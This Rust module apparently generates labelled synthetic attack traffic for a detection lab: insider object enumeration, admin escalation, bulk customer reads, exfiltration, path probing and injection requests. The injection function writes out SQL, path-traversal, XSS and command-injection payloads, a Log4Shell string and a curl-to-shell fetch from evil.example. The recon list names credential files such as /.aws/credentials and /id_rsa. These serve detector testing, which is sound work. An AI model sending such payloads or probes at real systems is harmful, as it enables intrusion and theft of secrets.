//! Section D: objects and functions that are not the caller's, scans, injections, the unusual.

use anyhow::Result;

use super::Attack;
use crate::lab::Service;
use crate::lab::people::{ADMIN, SUPPORT};
use crate::lab::places::FAR;
use crate::lab::script::{Call, Caller};
use crate::lab::world::{Job, agent};

/// What reading fast and much sets off as well.
const VOLUME: &[&str] = &["token-rate", "address-rate", "traffic-spike"];

/// A customer at home, logged in, as he often was: an insider, or malware at his desk.
fn insider(a: &mut Attack<'_>) -> Result<(usize, Caller, String)> {
    let person = a.customer();
    let who = a.home(person);
    a.label.addresses.push(who.address);
    let token = a.world.token_of(person, a.at)?;
    a.prepare(&who, Service::Orders, Call::get("/orders?page=1&size=20").token(&token), 200);
    Ok((person, who, token))
}

/// What one of a group did is no longer strange in another: each attack takes its own.
fn in_turn(a: &Attack<'_>, of: &[&'static str]) -> &'static str {
    of.iter().cycle().nth(a.number as usize).copied().unwrap_or_default()
}

pub(super) fn denied_rate(a: &mut Attack<'_>) -> Result<()> {
    let (_, who, token) = insider(a)?;
    let gap = a.rng.between(200, 1_500);
    for n in 0..a.rng.between(26, 60) {
        let path = a.rng.pick(&["/admin/users", "/admin/audit", "/reports", "/customers"]);
        a.hit(&who, Service::Accounts, Call::get(format!("{path}/{n}")).token(&token), 403);
        a.wait_ms(gap / 2, gap);
    }
    a.counts();
    a.may(VOLUME);
    Ok(())
}

pub(super) fn object_enumeration(a: &mut Attack<'_>) -> Result<()> {
    let (person, who, mut token) = insider(a)?;
    let first = 200_000 + a.rng.below(50_000);
    let gap = a.rng.between(400, 7_000);
    let (found, step) = (0.2 + a.rng.unit() * 0.8, a.rng.between(1, 3));
    for n in 0..a.rng.between(180, 420) {
        a.renew(person, &mut token)?;
        let status = if a.rng.chance(found) { 200 } else { a.rng.pick(&[403, 404]) };
        a.hit(
            &who,
            Service::Orders,
            Call::get(format!("/orders/{}", first + n * step)).token(&token),
            status,
        );
        a.wait_ms(gap / 2, gap);
    }
    a.counts();
    a.may(VOLUME);
    Ok(())
}

pub(super) fn foreign_object(a: &mut Attack<'_>) -> Result<()> {
    let (person, who, mut token) = insider(a)?;
    // Somebody whose orders were read by himself, often.
    let mut owners: Vec<usize> = (0..a.world.people.len())
        .filter(|i| *i != person && a.world.people.get(*i).is_some_and(|p| p.job == Job::Customer))
        .collect();
    owners.sort_by_key(|i| std::cmp::Reverse(a.world.people.get(*i).map_or(0, |p| p.sessions)));
    let owner = owners.get(a.rng.below(4) as usize).copied().unwrap_or_default();
    let base = a.world.people.get(owner).map_or(0, |p| p.base) * 40;
    for id in base..base + a.rng.between(3, 6) {
        a.renew(person, &mut token)?;
        a.hit(&who, Service::Orders, Call::get(format!("/orders/{id}")).token(&token), 200);
        a.wait_ms(1_000, 60_000);
    }
    a.counts();
    Ok(())
}

pub(super) fn function_escalation(a: &mut Attack<'_>) -> Result<()> {
    let (_, who, token) = insider(a)?;
    let what = in_turn(a, &ADMIN);
    for _ in 0..a.rng.between(3, 5) {
        a.hit(&who, Service::Accounts, Call::get(format!("/admin/{what}")).token(&token), 403);
        a.wait_ms(500, 9_000);
    }
    a.label.deciding = Some(a.at);
    a.hit(&who, Service::Accounts, Call::get(format!("/admin/{what}")).token(&token), 200);
    a.may(&["off-hours", "new-device-sensitive"]);
    Ok(())
}

/// Reads customers' data one by one.
fn read_customers(a: &mut Attack<'_>, who: &Caller, token: &str, count: u64, within_ms: u64) {
    let first = 10_000 + a.rng.below(40_000);
    let gap = within_ms / count;
    let lanes = 4;
    for n in 0..count {
        let who = Caller { lane: (n % lanes) as u32, ..who.clone() };
        let at = a.at;
        a.hit(&who, Service::Accounts, Call::get(format!("/customers/{}", first + n)).token(token), 200);
        a.at = at + gap * 1_000_000;
    }
    a.counts();
    a.may(VOLUME);
    a.may(&["off-hours", "new-device-sensitive"]);
}

pub(super) fn bulk_access(a: &mut Attack<'_>) -> Result<()> {
    let person = a.victim(|p| p.job == Job::Support);
    let who = a.home(person);
    a.label.addresses.push(who.address);
    let token = a.world.token_of(person, a.at)?;
    let count = a.rng.between(620, 1_100);
    let within = a.rng.between(180_000, 270_000);
    read_customers(a, &who, &token, count, within);
    Ok(())
}

pub(super) fn data_exfiltration(a: &mut Attack<'_>) -> Result<()> {
    let person = a.victim(|p| p.job == Job::Support);
    let mut who = a.attacker_from(FAR[1]);
    who.agent = agent(0, a.world.day(a.at));
    let token = a.world.token_of(person, a.at)?;
    let count = a.rng.between(1_150, 1_700);
    let within = a.rng.between(400_000, 560_000);
    read_customers(a, &who, &token, count, within);
    a.may(&["new-country", "impossible-travel", "device-change", "token-many-sources"]);
    Ok(())
}

pub(super) fn endpoint_recon(a: &mut Attack<'_>) -> Result<()> {
    const PATHS: [&str; 24] = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/admin",
        "/actuator/env",
        "/api/v1/users",
        "/backup.zip",
        "/config.json",
        "/console",
        "/debug",
        "/phpinfo.php",
        "/server-status",
        "/swagger.json",
        "/v2/api-docs",
        "/openapi.json",
        "/graphql",
        "/.aws/credentials",
        "/id_rsa",
        "/jenkins",
        "/manager/html",
        "/solr",
        "/.svn/entries",
        "/dump.sql",
        "/old",
    ];
    let who = a.attacker();
    let gap = a.rng.between(100, 2_000);
    for n in 0..a.rng.between(30, 70) as usize {
        let path = PATHS.get(n % PATHS.len()).copied().unwrap_or_default();
        let path = if n < PATHS.len() { path.to_owned() } else { format!("{path}{n}") };
        let status = a.rng.pick(&[404, 404, 404, 403, 200]);
        a.hit(&who, Service::Orders, Call::get(path), status);
        a.wait_ms(gap / 2, gap);
    }
    a.counts();
    a.may(VOLUME);
    Ok(())
}

pub(super) fn injection(a: &mut Attack<'_>) -> Result<()> {
    let who = a.attacker();
    let token = a.own_token()?;
    let call = match a.rng.below(9) {
        0 => Call::get("/search?q=1%27%20OR%20%271%27%3D%271%27--%20"),
        1 => Call::get("/search?q=x%27+UNION+SELECT+username%2Cpassword+FROM+users--"),
        2 => Call::get("/files/../../../../etc/passwd"),
        3 => Call::get("/files/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        4 => Call::get("/search?q=%3Bcat%20%2Fetc%2Fpasswd"),
        5 => Call::get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        6 => Call::get("/search?q=shoes").header("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        7 => Call::get("/orders/1%3BDROP%20TABLE%20orders%3B--"),
        _ => Call::get("/search?q=%24%28curl+http%3A%2F%2Fevil.example%2Fx%7Csh%29"),
    };
    let status = a.rng.pick(&[200, 400, 500]);
    a.hit(&who, Service::Orders, call.token(&token), status);
    Ok(())
}

pub(super) fn unusual_endpoint(a: &mut Attack<'_>) -> Result<()> {
    let (_, who, token) = insider(a)?;
    let what = in_turn(a, &SUPPORT);
    for _ in 0..a.rng.between(1, 5) {
        let order = a.rng.between(100_000, 103_000);
        a.hit(&who, Service::Orders, Call::get(format!("/support/{what}/{order}")).token(&token), 200);
        a.wait_ms(500, 9_000);
    }
    Ok(())
}

pub(super) fn unusual_sequence(a: &mut Attack<'_>) -> Result<()> {
    let (person, who, token) = insider(a)?;
    let own = a.world.people.get(person).map_or(0, |p| p.base) * 40;
    // Each step is an everyday one; no page makes one of them after the other.
    for n in 0..a.rng.between(18, 40) {
        let (call, status) = match n % 3 {
            0 => (Call::get(format!("/orders/{own}/items")), 200),
            1 => (Call::get(format!("/products/{}", a.rng.below(900))), 200),
            _ => (Call::post("/orders", r#"{"product":1,"count":9}"#), 201),
        };
        a.hit(&who, Service::Orders, call.token(&token), status);
        a.wait_ms(50, 900);
    }
    a.counts();
    Ok(())
}
